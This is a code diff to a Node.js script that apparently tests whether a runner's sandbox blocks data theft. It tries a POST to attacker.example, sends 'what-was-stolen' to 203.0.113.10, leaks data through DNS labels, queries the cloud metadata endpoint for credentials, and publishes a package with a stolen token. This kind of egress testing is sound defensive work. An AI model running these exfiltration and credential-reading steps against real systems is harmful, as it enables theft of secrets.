@@ -81,15 +81,23 @@ function secretsOf(environ) {
   }).map((line) => line.split('=')[0]);
 }
 
-function connect(host, port) {
+// say connects, sends a line and returns what comes back. A connection that is
+// taken and then hung up on without a word was taken by a gateway, not by the
+// host that it was meant for.
+function say(host, port, line) {
   return new Promise((resolve, reject) => {
     const socket = net.connect({ host, port, timeout: patience });
-    socket.on('connect', () => {
-      socket.destroy();
-      resolve('connected');
-    });
+    let answer = '';
+    socket.setEncoding('latin1');
+    socket.on('connect', () => socket.write(line));
+    socket.on('data', (chunk) => { if (answer.length < 4096) answer += chunk; });
     socket.on('timeout', () => socket.destroy(new Denied('no answer')));
     socket.on('error', reject);
+    socket.on('close', () => {
+      if (answer === '') reject(new Denied('hung up without a word'));
+      else if (/zviz/i.test(answer)) reject(new Denied(`${answer.split(' ')[1]} from the runner's gateway`));
+      else resolve('it answered');
+    });
   });
 }
 
@@ -189,12 +197,12 @@ async function main() {
 
   // Send.
   await attempt('send it to https://attacker.example', () => request(https, 'https://attacker.example/collect', { method: 'POST' }, 'x').then((a) => `answered ${a.status}`));
-  await attempt('send it to the address 203.0.113.10, port 443', () => connect('203.0.113.10', 443));
+  await attempt('send it to the address 203.0.113.10, port 443', () => say('203.0.113.10', 443, 'what-was-stolen\n'));
   await attempt('send it in the labels of a DNS name', leakByName);
-  await attempt('read the cloud\'s credentials at 169.254.169.254', () => connect('169.254.169.254', 80));
+  await attempt('read the cloud\'s credentials at 169.254.169.254', () => say('169.254.169.254', 80, 'GET /latest/meta-data/ HTTP/1.0\r\n\r\n'));
   await attempt('talk to a service of this machine on 127.0.0.1', () => {
     if (!target.port) throw new NotTried('no service is running');
-    return connect('127.0.0.1', target.port);
+    return say('127.0.0.1', target.port, 'x');
   });
   await attempt('publish a package with a stolen token', publish);
 
